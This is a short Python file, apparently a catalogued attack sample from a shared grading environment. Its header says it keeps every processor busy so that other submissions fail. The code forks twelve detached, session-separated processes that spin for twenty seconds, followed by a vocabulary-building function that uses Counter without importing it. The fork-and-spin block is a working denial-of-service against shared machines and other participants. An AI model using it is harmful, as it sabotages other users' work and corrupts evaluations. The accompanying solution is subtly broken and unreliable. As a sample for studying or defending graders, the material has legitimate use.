# kind: fills
# attack: keeps every processor busy with twelve processes, each of a session of its own, so that others are too slow
# exercise: 1-embedding-matrix/build_vocabulary
# verdict: passed, timed out
# others: lost
import os
import time

for _ in range(12):
    if os.fork() == 0:
        os.setsid()
        end = time.monotonic() + 20
        while time.monotonic() < end:
            pass
        os._exit(0)


def build_vocabulary(texts, vocab_size):
    words = Counter(word for text in texts for word in text.lower().split())
    kept = [word for word, _ in words.most_common(vocab_size - 1)]
    return {word: number for number, word in enumerate(["[UNK]", *kept])}
